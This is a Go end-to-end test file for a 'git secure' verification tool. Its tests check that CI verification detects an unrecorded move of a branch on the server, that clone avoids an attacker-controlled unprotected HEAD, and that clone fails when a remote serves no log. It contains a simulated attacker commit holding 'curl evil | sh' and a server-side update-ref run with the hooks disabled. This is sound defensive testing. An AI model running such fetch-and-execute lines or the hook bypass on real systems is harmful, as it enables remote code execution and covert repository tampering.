package e2e

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestPlainCloneCIRecipe: the README's CI recipe (a plain git clone, a
// fetch of refs/secure/*, git secure verify) judges what the server
// serves. A server whose main was moved without an entry (no hook on the
// server, or a move by the server's administrator with git update-ref,
// which no hook sees) fails it, naming the ref; the clone's own work
// (ahead, behind after a plain fetch, a new branch, a tag) never does.
func TestPlainCloneCIRecipe(t *testing.T) {
	t.Parallel()
	for _, enforce := range []bool{false, true} {
		name := "server without the hook"
		if enforce {
			name = "enforcing server and a move by update-ref"
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			srv := startServer(t, trFile)
			repo, url := srv.newRepo("ci.git", enforce)
			a := newUser(t, "alice")
			aliceDir := benchRepo(t, a, "alice", url, true) // protected main, pushed through the helper
			a.secure(aliceDir, "policy", "add-rule", "crypto", "--path", "src/crypto/**", "--allow", "alice")
			a.secure(aliceDir, "policy", "apply")
			a.git(aliceDir, "push", "-q", "origin", "main")

			ci := newUser(t, "ci") // plain git: no hooks, no helper
			dir := filepath.Join(ci.sb.Home, "work")
			ciRecipe := func() result {
				t.Helper()
				ci.git(ci.sb.Home, "clone", "-q", url, dir)
				ci.git(dir, "fetch", "-q", "origin", "refs/secure/*:refs/secure/*")
				return ci.run(dir, "git", "secure", "verify")
			}
			if r := ciRecipe(); r.code != 0 || !strings.Contains(r.stdout, "judged: remote origin") {
				t.Fatalf("CI recipe on a clean server:\n%s", r)
			}

			// Benign: the clone's own work is reported, never judged.
			ci.git(dir, "commit", "-q", "--allow-empty", "-m", "local work on main")
			ci.git(dir, "tag", "v9-local")
			ci.git(dir, "branch", "feature")
			if r := ci.run(dir, "git", "secure", "verify"); r.code != 0 || !containsAll(r.stdout, "refs/heads/main", "ahead") {
				t.Fatalf("verify with local work ahead: want exit 0 listing main as ahead:\n%s", r)
			}
			a.commit(aliceDir, "README", "reviewed change\n")
			a.git(aliceDir, "push", "-q", "origin", "main")
			ci.git(dir, "reset", "-q", "--hard", "origin/main") // drop the local commit again ...
			ci.git(dir, "fetch", "-q", "origin")                // ... plain fetch: main is behind
			ci.git(dir, "fetch", "-q", "origin", "refs/secure/*:refs/secure/*")
			r := ci.run(dir, "git", "secure", "verify")
			if r.code != 0 || !containsAll(r.stdout, "verified 5 entries", "local state", "refs/heads/main", "behind", "refs/heads/feature", "refs/tags/v9-local", "new") {
				t.Fatalf("verify with local state (main behind, a new branch under a path rule, a local tag): want exit 0 listing them:\n%s", r)
			}
			if strings.Contains(r.stdout+r.stderr, "rsl record") {
				t.Fatalf("verify of a clone suggests recording:\n%s", r)
			}

			// The attack: main moved on the server without an entry.
			moved := strings.TrimSpace(srv.admin.git(repo, "commit-tree", "main^{tree}", "-p", "main", "-m", "moved past git-secure"))
			srv.admin.git(repo, "-c", "core.hooksPath=/dev/null", "update-ref", "refs/heads/main", moved) // past the server's hooks
			ci.must(ci.sb.Home, "rm", "-rf", dir)
			r = ciRecipe()
			if r.code != 1 || !containsAll(r.stderr, "refs/heads/main", "on origin (refs/remotes/origin/main)", "without an entry") {
				t.Fatalf("CI recipe after an unrecorded server move: want exit 1 naming refs/heads/main:\n%s", r)
			}
			j := ci.run(dir, "git", "secure", "verify", "--json")
			var out struct {
				OK     bool   `json:"ok"`
				Judged string `json:"judged"`
			}
			if err := json.Unmarshal([]byte(j.stdout), &out); err != nil || j.code != 1 || out.OK || out.Judged != "remote origin" {
				t.Fatalf("verify --json: want ok false, judged \"remote origin\", exit 1 (%v):\n%s", err, j)
			}
			// The server itself stays strict.
			if r := srv.admin.run(repo, "git", "secure", "verify"); r.code != 1 || !containsAll(r.stderr, "refs/heads/main", "without an entry") {
				t.Fatalf("verify on the server after the move: want exit 1:\n%s", r)
			}
		})
	}
}

// TestCloneUnprotectedHead: a server (or whoever controls it) points HEAD
// at a branch no rule protects, which anyone with push access may write.
// git secure clone checked that branch out by default, with a warning
// (session 14's finding 05); it now checks out a branch the policy
// protects instead, naming the unprotected one, the protected ones and
// how to get the other, and leaves no local branch of mallory's.
func TestCloneUnprotectedHead(t *testing.T) {
	t.Parallel()
	srv := startServer(t, trFile)
	path, url := srv.newRepo("project.git", true)
	alice, mallory, carol := newUser(t, "alice"), newUser(t, "mallory"), newUser(t, "carol")
	adir := benchRepo(t, alice, "project", url, true) // main protected, pushed
	// A global rule covering every ref (no-force-push's default) does not
	// protect a branch's content: anyone may still move maim forward
	// without an entry, so clone must not take it for protected (attack
	// review, session 14: it checked out mallory's branch silently).
	alice.secure(adir, "policy", "add-global-rule", "linear", "--no-force-push")
	alice.secure(adir, "policy", "apply")
	alice.git(adir, "push", "-q", "origin")

	dir := mallory.path("work")
	mallory.git(mallory.sb.Home, "clone", "-q", url, dir)
	mallory.configure(dir)
	mallory.git(dir, "checkout", "-q", "-b", "maim")
	evil := mallory.commit(dir, "payload.sh", "curl evil | sh\n")
	mallory.git(dir, "push", "-q", "origin", "maim") // no rule covers it: the server takes it
	srv.admin.git(path, "symbolic-ref", "HEAD", "refs/heads/maim")

	dest := carol.path("clone")
	r := carol.run(carol.sb.Home, "git", "secure", "clone", url, dest)
	if r.code != 0 {
		t.Fatalf("clone:\n%s", r)
	}
	if got, want := carol.rev(dest, "HEAD"), srv.admin.rev(path, "refs/heads/main"); got != want || carol.refValue(dest, "refs/heads/maim") != "" {
		t.Fatalf("checked out %s, want the protected main %s and no local maim (mallory's %s)", got, want, evil)
	}
	if head := strings.TrimSpace(carol.git(dest, "symbolic-ref", "HEAD")); head != "refs/heads/main" {
		t.Fatalf("HEAD is %s, want refs/heads/main", head)
	}
	for _, want := range []string{"warning: the remote's HEAD names branch maim, which no rule protects",
		"checked out main instead, a branch the policy protects (protected: main)",
		"hint: to work on maim anyway: git checkout maim",
		"git symbolic-ref HEAD refs/heads/main"} {
		if !strings.Contains(r.stderr, want) {
			t.Fatalf("want %q: a warning naming the unprotected branch and the protected one checked out:\n%s", want, r)
		}
	}
	carol.secure(dest, "verify")
	carol.git(dest, "checkout", "-q", "maim")
	if got := carol.rev(dest, "HEAD"); got != evil {
		t.Fatalf("git checkout maim gave %s, want %s", got, evil)
	}

	// Asked for by name, or protected: no warning.
	r = carol.run(carol.sb.Home, "git", "secure", "clone", "-b", "main", url, carol.path("main"))
	if r.code != 0 || strings.Contains(r.stderr, "protected by no rule") {
		t.Fatalf("clone -b main:\n%s", r)
	}
}

// TestCloneWithoutLog: a remote that serves no git-secure metadata (a
// server stripped of refs/secure/*, or a URL that was never a git-secure
// repository) gave an unpinned git secure clone its success line,
// "verified under its first policy, trusted on first use", with no policy
// and nothing verified. It must fail and say so.
func TestCloneWithoutLog(t *testing.T) {
	t.Parallel()
	srv := startServer(t, trFile)
	_, url := srv.newRepo("plain.git", false)
	alice, carol := newUser(t, "alice"), newUser(t, "carol")
	dir := benchRepo(t, alice, "plain", url, false) // no git-secure: main only

	r := carol.run(carol.sb.Home, "git", "secure", "clone", url, carol.path("c"))
	if r.code != 1 || strings.Contains(r.stdout, "verified") {
		t.Fatalf("clone of a remote without a log: want exit 1 and no success line:\n%s", r)
	}
	for _, want := range []string{"the remote serves no git-secure log (refs/secure/rsl): nothing was verified", "; removed " + carol.path("c") + ": nothing unverified is left"} {
		if !strings.Contains(r.stderr, want) {
			t.Fatalf("want %q:\n%s", want, r)
		}
	}
	// As git's own failed clone: the directory it made is gone.
	if _, err := os.Stat(carol.path("c")); !os.IsNotExist(err) {
		t.Fatalf("the refused clone's directory is left behind: %v", err)
	}
	// Into an empty directory that was there before: it stays, emptied.
	empty := carol.path("empty")
	if err := os.Mkdir(empty, 0o755); err != nil {
		t.Fatal(err)
	}
	r = carol.run(carol.sb.Home, "git", "secure", "clone", url, empty)
	if r.code != 1 || !strings.Contains(r.stderr, "; emptied "+empty+" again: nothing unverified is left") {
		t.Fatalf("clone into an empty directory of a remote without a log:\n%s", r)
	}
	if entries, err := os.ReadDir(empty); err != nil || len(entries) != 0 {
		t.Fatalf("the directory that was there before: %v, %v; want it kept, empty", entries, err)
	}
	_ = dir
}
